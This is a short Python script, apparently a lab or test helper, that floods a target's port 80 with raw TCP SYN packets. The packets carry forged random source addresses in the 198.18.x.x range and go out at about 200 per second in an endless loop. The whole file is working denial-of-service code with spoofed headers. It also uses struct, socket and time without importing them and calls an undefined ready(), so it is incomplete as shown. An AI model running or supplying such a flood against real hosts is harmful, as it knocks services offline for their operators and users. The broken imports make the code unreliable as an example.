"""SYNs from addresses beyond the uplink, of hosts that never answer."""
import random


def checksum(data):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def run(to):
    """200 a second to port 80."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(to)
    ready()
    while True:
        source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
        port, number = random.randrange(1024, 65536), random.getrandbits(32)
        syn = struct.pack("!HHIIBBHHH", port, 80, number, 0, 0x50, 2, 1024, 0, 0)
        sum_of = checksum(source + target + struct.pack("!HH", 6, len(syn)) + syn)
        syn = syn[:16] + struct.pack("!H", sum_of) + syn[18:]
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(syn), 0, 0, 64, 6, 0, source, target)
        sender.sendto(header + syn, (to, 0))
        time.sleep(0.005)
